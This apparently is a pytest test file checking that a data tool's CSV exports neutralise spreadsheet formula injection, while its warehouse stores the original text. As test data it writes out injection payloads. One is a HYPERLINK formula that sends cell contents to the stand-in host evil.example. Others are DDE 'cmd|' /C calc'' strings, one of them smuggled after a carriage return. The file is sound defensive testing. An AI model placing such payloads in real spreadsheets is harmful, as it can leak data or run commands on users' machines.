"""Spreadsheet exports neutralise formula-looking text; the warehouse keeps the text as it came."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ilp.export import FORMULA_STARTS, csv_bytes, neutralise_formulas, neutralise_text, write_csv

BAD_INPUT = Path(__file__).resolve().parent / "bad_input"
MAPPING = BAD_INPUT / "mapping.toml"
FORMULA_FILE = BAD_INPUT / "formula_injection.csv"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["001XX N STATE ST", "", " =1+1 (leading space)", "a=b", "O'Hare", "1-2"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_gets_a_leading_quote(value):
    assert neutralise_text(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS + [None, 5, -2, 3.5, np.nan])
def test_other_values_are_unchanged(value):
    result = neutralise_text(value)
    assert result is value or (isinstance(value, float) and np.isnan(value) and np.isnan(result))


def test_neutralise_formulas_on_a_frame():
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "plain", None],
            "strings": pd.array(["+cmd", "-x", pd.NA], dtype="string"),
            "category": pd.Categorical(["@SUM(A1)", "ok", "ok"]),
            "number": [1, -2, 3],
            "real": [-87.6, 41.8, np.nan],
            "=header": ["a", "b", "c"],
        }
    )
    original = frame.copy(deep=True)
    out = neutralise_formulas(frame)
    assert list(out["text"][:2]) == ["'=1+1", "plain"] and pd.isna(out["text"][2])
    assert list(out["strings"][:2]) == ["'+cmd", "'-x"] and pd.isna(out["strings"][2])
    assert list(out["category"].astype(str)) == ["'@SUM(A1)", "ok", "ok"]
    assert list(out["number"]) == [1, -2, 3]  # numbers are numbers, not formulas
    assert out["real"][0] == -87.6
    assert list(out.columns) == ["text", "strings", "category", "number", "real", "'=header"]
    pd.testing.assert_frame_equal(frame, original)  # the input is not modified


def test_csv_bytes_round_trip_has_no_formula_cells():
    frame = pd.DataFrame({"a": FORMULAS + HARMLESS, "b": range(len(FORMULAS + HARMLESS))})
    cells = [cell for row in csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")) for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    for value in FORMULAS:
        assert "'" + value in cells


def test_a_line_break_inside_a_value_cannot_start_a_new_formula_cell():
    """A bare carriage return must be quoted, or a spreadsheet starts a new row at "=cmd" and runs it."""
    frame = pd.DataFrame({"a": ["x\r=cmd|' /C calc'!A0", "y\n@SUM(A1)", "z\r\n+1"], "b": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert rows == [["a", "b"], ["x\r=cmd|' /C calc'!A0", "1"], ["y\n@SUM(A1)", "2"], ["z\r\n+1", "3"]]
    text = csv_bytes(frame).decode("utf-8")
    assert '"x\r=cmd' in text and '"y\n@SUM' in text  # each quoted, so a line break stays inside its cell


def test_write_csv(tmp_path):
    target = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"x": ["=1+1"]}), target)
    assert target.read_bytes() == b"x\r\n'=1+1\r\n"


# ------------------------------------------------------------------------------------------ ilp rejects --csv
@pytest.fixture
def formula_warehouse(real_warehouse, run_cli):
    code, out, err = run_cli("ingest", "--mapping", MAPPING, "--json", FORMULA_FILE, warehouse=real_warehouse)
    assert code == 0, err
    assert json.loads(out)["rejected"] == 5
    return real_warehouse


def test_rejects_csv_neutralises_every_formula_cell(formula_warehouse, run_cli, tmp_path):
    target = tmp_path / "rejects.csv"
    code, out, err = run_cli("rejects", "--csv", target, warehouse=formula_warehouse)
    assert code == 0, err
    assert "Wrote 5 rejected rows" in out
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 5
    cells = [cell for row in rows for cell in row.values()]
    offenders = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert offenders == [], f"formula-looking cells left active: {offenders}"
    # the four broken lines start with =, +, - and @: each is exported with a leading quote, otherwise intact
    raw = [row["raw_row"] for row in rows if row["reason"].startswith("unreadable line")]
    assert raw == ["'=1+2,too,few", "'+cmd|' /C calc'!A0,too,few", "'-2+3,too,few", "'@SUM(A1:A2),too,few"]
    assert [row["line_number"] for row in rows] == ["6", "7", "8", "9", "10"]


def test_warehouse_keeps_the_original_text(formula_warehouse, run_cli):
    with contextlib.closing(formula_warehouse.connect()) as con:
        blocks = dict(con.execute("SELECT source_id, location_text FROM incidents").fetchall())
        descriptions = dict(con.execute("SELECT source_id, offense_description FROM incidents").fetchall())
        raw_rows = [r[0] for r in con.execute("SELECT raw_row FROM rejects ORDER BY line_number").fetchall()]
    assert blocks["1001"] == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert blocks["1002"] == "+cmd|' /C calc'!A0"
    assert blocks["1003"] == "-2+3"
    assert descriptions["1003"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert "@SUM(A1:A9)" in blocks  # an id that looks like a formula is still the id
    assert raw_rows[1:] == ["=1+2,too,few", "+cmd|' /C calc'!A0,too,few", "-2+3,too,few", "@SUM(A1:A2),too,few"]
    assert raw_rows[0] == "1006,=NOW(),=1+1,0560,ASSAULT,false,41.8770,-87.6290"  # the line as in the file

    # the JSON listing is not a spreadsheet export: it shows the text as stored
    code, out, _ = run_cli("rejects", "--json", warehouse=formula_warehouse)
    assert code == 0
    assert [r["raw_row"] for r in json.loads(out)][1] == "=1+2,too,few"
